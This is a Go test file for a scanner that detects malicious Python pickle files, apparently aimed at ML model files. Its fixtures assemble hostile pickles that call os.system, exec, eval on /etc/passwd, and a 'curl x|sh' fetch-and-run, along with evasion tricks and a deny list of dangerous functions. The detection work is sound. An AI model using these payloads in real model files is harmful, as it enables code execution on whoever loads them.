package pickle

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// asm assembles pickle opcodes for tests.
type asm struct{ bytes.Buffer }

func (a *asm) op(b ...byte) *asm            { a.Write(b); return a }
func (a *asm) proto(n byte) *asm            { return a.op(0x80, n) }
func (a *asm) global(m, n string) *asm      { a.WriteString("c" + m + "\n" + n + "\n"); return a }
func (a *asm) inst(m, n string) *asm        { a.WriteString("i" + m + "\n" + n + "\n"); return a }
func (a *asm) str0(s string) *asm           { a.WriteString("S'" + s + "'\n"); return a }
func (a *asm) mark() *asm                   { return a.op('(') }
func (a *asm) tuple() *asm                  { return a.op('t') }
func (a *asm) reduce() *asm                 { return a.op('R') }
func (a *asm) stop() *asm                   { return a.op('.') }
func (a *asm) memoize() *asm                { return a.op(0x94) }
func (a *asm) binget(i byte) *asm           { return a.op('h', i) }
func (a *asm) binput(i byte) *asm           { return a.op('q', i) }
func (a *asm) sbu(s string) *asm            { a.op(0x8c, byte(len(s))); a.WriteString(s); return a }
func (a *asm) bu(s string) *asm             { a.op('X'); a.u32(uint32(len(s))); a.WriteString(s); return a }
func (a *asm) u32(v uint32) *asm            { _ = binary.Write(a, binary.LittleEndian, v); return a }
func (a *asm) stackGlobal(m, n string) *asm { return a.sbu(m).memoize().sbu(n).memoize().op(0x93) }

// call pickles module.name(arg) with protocol 2 opcodes.
func call2(m, n, arg string) []byte {
	a := &asm{}
	a.proto(2).global(m, n).bu(arg).op(0x85).reduce().stop()
	return a.Bytes()
}

type summary struct {
	Dangerous []string
	Unknown   []string
	Calls     []string
	Streams   int
	Broken    bool
	Tricks    int
}

func summarize(r *Result) summary {
	var s summary
	for _, im := range r.Imports {
		switch im.Class {
		case Dangerous:
			s.Dangerous = append(s.Dangerous, im.Op+" "+im.Qualified())
		case Unknown:
			s.Unknown = append(s.Unknown, im.Op+" "+im.Qualified())
		}
	}
	for _, c := range r.Calls {
		if c.Op != "BUILD" {
			s.Calls = append(s.Calls, c.Op+" "+c.Callable+c.Args)
		}
	}
	s.Streams = r.Streams
	s.Broken = r.Break != nil
	s.Tricks = len(r.Suspicious)
	return s
}

func TestWalkOpcodeFamilies(t *testing.T) {
	tests := []struct {
		name string
		in   []byte
		want summary
	}{
		{
			name: "protocol 0 GLOBAL+REDUCE os.system",
			in:   []byte("cos\nsystem\n(S'echo pwned'\ntR."),
			want: summary{Dangerous: []string{"GLOBAL os.system"}, Calls: []string{`REDUCE os.system("echo pwned",)`}, Streams: 1},
		},
		{
			name: "protocol 2 posix.system via BINUNICODE+TUPLE1",
			in:   call2("posix", "system", "id"),
			want: summary{Dangerous: []string{"GLOBAL posix.system"}, Calls: []string{`REDUCE posix.system("id",)`}, Streams: 1},
		},
		{
			name: "protocol 4 STACK_GLOBAL from memoized strings",
			in: func() []byte {
				a := &asm{}
				a.proto(4).op(0x95).u32(0).u32(0) // FRAME 0
				a.sbu("builtins").memoize().op('0').sbu("exec").memoize().op('0')
				a.op('h', 0).op('h', 1).op(0x93).sbu("print(1)").op(0x85).reduce().stop()
				return a.Bytes()
			}(),
			want: summary{Dangerous: []string{"STACK_GLOBAL builtins.exec"}, Calls: []string{`REDUCE builtins.exec("print(1)",)`}, Streams: 1},
		},
		{
			name: "INST subprocess.Popen",
			in:   (&asm{}).mark().str0("ls").inst("subprocess", "Popen").stop().Bytes(),
			want: summary{Dangerous: []string{"INST subprocess.Popen"}, Calls: []string{`INST subprocess.Popen("ls",)`}, Streams: 1},
		},
		{
			name: "OBJ with class from GLOBAL",
			in:   (&asm{}).mark().global("nt", "system").str0("calc").op('o').stop().Bytes(),
			want: summary{Dangerous: []string{"GLOBAL nt.system"}, Calls: []string{`OBJ nt.system("calc",)`}, Streams: 1},
		},
		{
			name: "NEWOBJ and NEWOBJ_EX",
			in: (&asm{}).proto(4).stackGlobal("socket", "socket").op(')').op(0x81).op('0').
				stackGlobal("webbrowser", "open").op(')').op('}').op(0x92).stop().Bytes(),
			want: summary{Dangerous: []string{"STACK_GLOBAL socket.socket", "STACK_GLOBAL webbrowser.open"},
				Calls: []string{"NEWOBJ socket.socket()", "NEWOBJ_EX webbrowser.open((), {})"}, Streams: 1},
		},
		{
			name: "EXT1 is unknown",
			in:   (&asm{}).proto(2).op(0x82, 7).op(')').reduce().stop().Bytes(),
			want: summary{Unknown: []string{"EXT copyreg.extension.7"}, Calls: []string{"REDUCE copyreg.extension.7()"}, Streams: 1},
		},
		{
			name: "__builtins__ indirection",
			in:   (&asm{}).proto(2).global("__main__", "__builtins__").stop().Bytes(),
			want: summary{Dangerous: []string{"GLOBAL __main__.__builtins__"}, Streams: 1},
		},
		{
			name: "getattr chain",
			in: (&asm{}).proto(2).global("builtins", "getattr").global("collections", "OrderedDict").bu("__init__").op(0x86).reduce().
				op(')').reduce().stop().Bytes(),
			want: summary{Dangerous: []string{"GLOBAL builtins.getattr"},
				Calls: []string{`REDUCE builtins.getattr(collections.OrderedDict, "__init__")`, `REDUCE (builtins.getattr(collections.OrderedDict, "__init__"))()`}, Streams: 1},
		},
		{
			name: "py2 __builtin__ eval",
			in:   []byte("c__builtin__\neval\n(Vopen('/etc/passwd').read()\ntR."),
			want: summary{Dangerous: []string{"GLOBAL __builtin__.eval"}, Calls: []string{`REDUCE __builtin__.eval("open('/etc/passwd').read()",)`}, Streams: 1},
		},
		{
			name: "dotted name walks attributes",
			in:   (&asm{}).proto(4).stackGlobal("torch", "serialization.load").stop().Bytes(),
			want: summary{Dangerous: []string{"STACK_GLOBAL torch.serialization.load"}, Streams: 1},
		},
		{
			name: "computed STACK_GLOBAL target",
			in:   (&asm{}).proto(4).stackGlobal("builtins", "str").sbu("os").op(0x85).reduce().sbu("system").op(0x93).stop().Bytes(),
			want: summary{Streams: 1, Tricks: 1},
		},
		{
			name: "BUILD installs __setstate__",
			in: (&asm{}).proto(2).global("collections", "OrderedDict").op(')').reduce().
				op('}').bu("__setstate__").global("os", "system").op('s').op('b').stop().Bytes(),
			want: summary{Dangerous: []string{"GLOBAL os.system"}, Streams: 1, Tricks: 1},
		},
		{
			name: "broken after payload keeps the import (nullifAI)",
			in:   append(call2("os", "system", "curl x|sh")[:29], 0xff, 0xfe),
			want: summary{Dangerous: []string{"GLOBAL os.system"}, Calls: []string{`REDUCE os.system("curl x|sh",)`}, Broken: true},
		},
		{
			name: "second pickle in the stream is walked",
			in:   append((&asm{}).proto(2).op(']').stop().Bytes(), call2("runpy", "run_path", "/tmp/x.py")...),
			want: summary{Dangerous: []string{"GLOBAL runpy.run_path"}, Calls: []string{`REDUCE runpy.run_path("/tmp/x.py",)`}, Streams: 2},
		},
		{
			name: "torch-like state dict is all safe",
			in: (&asm{}).proto(2).global("collections", "OrderedDict").op(')').reduce().binput(0).
				bu("w").global("torch._utils", "_rebuild_tensor_v2").
				mark().mark().bu("storage").global("torch", "FloatStorage").bu("0").bu("cpu").op('K', 4).tuple().op('Q').
				op('K', 0).op('K', 2).op('K', 2).op(0x86).op('K', 2).op('K', 1).op(0x86).op(0x89).
				global("collections", "OrderedDict").op(')').reduce().op('t').reduce().op('s').stop().Bytes(),
			want: summary{Streams: 1},
		},
		{
			name: "sklearn-shaped estimator via copyreg reconstructor",
			in: (&asm{}).proto(2).global("copy_reg", "_reconstructor").global("sklearn.linear_model._logistic", "LogisticRegression").
				global("builtins", "object").op('N').op(0x87).reduce().op('}').bu("C").op('G', 0, 0, 0, 0, 0, 0, 0xf0, 0x3f).op('s').op('b').stop().Bytes(),
			want: summary{Streams: 1},
		},
		{
			name: "unknown user class",
			in:   (&asm{}).proto(2).global("__main__", "Net").op(')').op(0x81).stop().Bytes(),
			want: summary{Unknown: []string{"GLOBAL __main__.Net"}, Calls: []string{"NEWOBJ __main__.Net()"}, Streams: 1},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for _, mode := range []string{"bytes", "reader"} {
				var r *Result
				if mode == "bytes" {
					r = WalkBytes(tc.in, Limits{}, nil)
				} else {
					r = Walk(bytes.NewReader(tc.in), Limits{}, nil)
				}
				if diff := cmp.Diff(tc.want, summarize(r)); diff != "" {
					t.Errorf("%s: (-want +got)\n%s\nbreak=%+v", mode, diff, r.Break)
				}
			}
		})
	}
}

func TestWalkMalformed(t *testing.T) {
	tests := []struct {
		name, in, reason string
		after            bool
	}{
		{"not a pickle", "\xffhello world", "invalid opcode", false},
		{"truncated BINUNICODE", "\x80\x02X\xff\xff\xff\x7fabc", "truncated", false},
		{"no STOP", "\x80\x02]", "truncated", true},
		{"garbage after content", "\x80\x02]\xff", "invalid opcode", true},
		{"bad protocol", "\x80\x09.", "unsupported pickle protocol", false},
		{"stack underflow", "\x80\x02R", "stack underflow", false},
		{"memo miss", "\x80\x02h\x05.", "memo key 5 not found", false},
		{"huge BINUNICODE8", "\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\xff", "impossible", false},
		{"pop mark without mark", "\x80\x021", "MARK not found", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := WalkBytes([]byte(tc.in), Limits{}, nil)
			if r.Break == nil {
				t.Fatalf("no break reported")
			}
			if !strings.Contains(r.Break.Reason, tc.reason) || r.Break.AfterContent != tc.after {
				t.Errorf("break = %+v, want reason containing %q, after=%v", r.Break, tc.reason, tc.after)
			}
		})
	}
}

func TestWalkLimits(t *testing.T) {
	// Many marks: bounded by MaxMarks, reported as a limit, not a panic.
	in := append([]byte("\x80\x02"), bytes.Repeat([]byte("("), 200)...)
	r := WalkBytes(in, Limits{MaxOps: 1000, MaxStack: 100, MaxMarks: 50, MaxMemo: 10, KeepString: 16, MaxLine: 64, KeepItems: 4, MaxStreams: 4, MaxImports: 10}, nil)
	if r.Limit == "" || r.Break != nil {
		t.Errorf("limit=%q break=%+v", r.Limit, r.Break)
	}
	// Memo overflow: GET of a dropped entry is "lost", never a dynamic-import trick.
	a := &asm{}
	a.proto(4)
	for i := 0; i < 20; i++ {
		a.sbu("x").memoize().op('0')
	}
	a.op('j').u32(15).op('j').u32(16).op(0x93).stop()
	r = WalkBytes(a.Bytes(), Limits{MaxOps: 1000, MaxStack: 100, MaxMarks: 50, MaxMemo: 10, KeepString: 16, MaxLine: 64, KeepItems: 4, MaxStreams: 4, MaxImports: 10}, nil)
	if len(r.Suspicious) != 0 || r.Limit == "" {
		t.Errorf("suspicious=%v limit=%q", r.Suspicious, r.Limit)
	}
	// Ops bound.
	r = WalkBytes(bytes.Repeat([]byte("N0"), 100), Limits{MaxOps: 50, MaxStack: 100, MaxMarks: 50, MaxMemo: 10, KeepString: 16, MaxLine: 64, KeepItems: 4, MaxStreams: 4, MaxImports: 10}, nil)
	if r.Limit == "" {
		t.Errorf("ops limit not reported")
	}
}

func TestLegacyTorchStopsAfterFivePickles(t *testing.T) {
	a := &asm{}
	a.proto(2).op(0x8a, 10, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19).stop() // magic
	a.proto(2).op('M', 0xe9, 0x03).stop()                                                      // protocol 1001
	a.proto(2).op('}').stop()                                                                  // sys_info
	a.proto(2).global("collections", "OrderedDict").op(')').reduce().stop()                    // object
	a.proto(2).op(']').bu("0").op('a').stop()                                                  // storage keys
	a.op(4, 0, 0, 0, 0, 0, 0, 0).Write(bytes.Repeat([]byte{'c'}, 16))                          // raw storage: looks like GLOBAL
	r := WalkBytes(a.Bytes(), Limits{}, nil)
	if !r.Torch || r.Streams != 5 || r.Break != nil || r.Trailing {
		t.Errorf("torch=%v streams=%d break=%+v trailing=%v", r.Torch, r.Streams, r.Break, r.Trailing)
	}
}

func TestJoblibArraySkipped(t *testing.T) {
	a := &asm{}
	a.proto(4)
	a.stackGlobal("joblib.numpy_pickle", "NumpyArrayWrapper").op(')').op(0x81).memoize()
	a.op('}').mark()
	a.sbu("subclass").stackGlobal("numpy", "ndarray")
	a.sbu("shape").op('K', 3).op(0x85)
	a.sbu("order").sbu("C")
	a.sbu("dtype").stackGlobal("numpy", "dtype").sbu("f8").op(0x89, 0x88).op(0x87).reduce()
	a.sbu("allow_mmap").op(0x88)
	a.sbu("numpy_array_alignment_bytes").op('K', 16)
	a.op('u').op('b')
	a.op(5, 0xff, 0xff, 0xff, 0xff, 0xff)        // padding length byte + 5 bytes
	a.Write(bytes.Repeat([]byte{'c', '\n'}, 12)) // 24 bytes of float data that look like opcodes
	a.stop()
	r := WalkBytes(a.Bytes(), Limits{}, nil)
	if !r.Joblib || r.Break != nil || r.Streams != 1 || r.MaxClass() != Safe {
		t.Errorf("joblib=%v break=%+v streams=%d class=%v imports=%v", r.Joblib, r.Break, r.Streams, r.MaxClass(), r.Imports)
	}
}

func TestClassify(t *testing.T) {
	tests := []struct {
		mod, name string
		want      Class
	}{
		{"torch._utils", "_rebuild_tensor_v2", Safe},
		{"torch", "BFloat16Storage", Safe},
		{"collections", "OrderedDict", Safe},
		{"numpy.core.multiarray", "_reconstruct", Safe},
		{"numpy._core.multiarray", "_reconstruct", Safe},
		{"numpy", "float64", Safe},
		{"sklearn.ensemble._forest", "RandomForestClassifier", Safe},
		{"builtins", "set", Safe},
		{"__builtin__", "eval", Dangerous},
		{"os", "system", Dangerous},
		{"posix", "system", Dangerous},
		{"nt", "system", Dangerous},
		{"subprocess", "check_output", Dangerous},
		{"builtins", "getattr", Dangerous},
		{"builtins", "__import__", Dangerous},
		{"runpy", "_run_code", Dangerous},
		{"importlib", "import_module", Dangerous},
		{"socket", "create_connection", Dangerous},
		{"webbrowser", "open", Dangerous},
		{"pty", "spawn", Dangerous},
		{"shutil", "rmtree", Dangerous},
		{"sys", "exit", Dangerous},
		{"code", "interact", Dangerous},
		{"marshal", "loads", Dangerous},
		{"types", "FunctionType", Dangerous},
		{"pickle", "loads", Dangerous},
		{"_pickle", "loads", Dangerous},
		{"dill", "loads", Dangerous},
		{"operator", "attrgetter", Dangerous},
		{"functools", "partial", Dangerous},
		{"torch.hub", "load", Dangerous},
		{"torch", "load", Dangerous},
		{"torch.jit.unsupported_tensor_ops", "execWrapper", Dangerous},
		{"torch.fx.graph_module", "reduce_graph_module", Dangerous},
		{"mlflow.pyfunc", "load_model", Dangerous},
		{"pandas.io.pickle", "read_pickle", Dangerous},
		{"pandas", "read_pickle", Dangerous},
		{"numpy.testing._private.utils", "runstring", Dangerous},
		{"some.lib", "run_shell_exec", Unknown},
		{"some.lib", "exec_command", Dangerous},
		{"__main__", "Net", Unknown},
		{"sklearn.utils", "helper_func", Unknown},
	}
	for _, tc := range tests {
		if got, why := Classify(tc.mod, tc.name); got != tc.want {
			t.Errorf("Classify(%s, %s) = %v (%s), want %v", tc.mod, tc.name, got, why, tc.want)
		}
	}
}
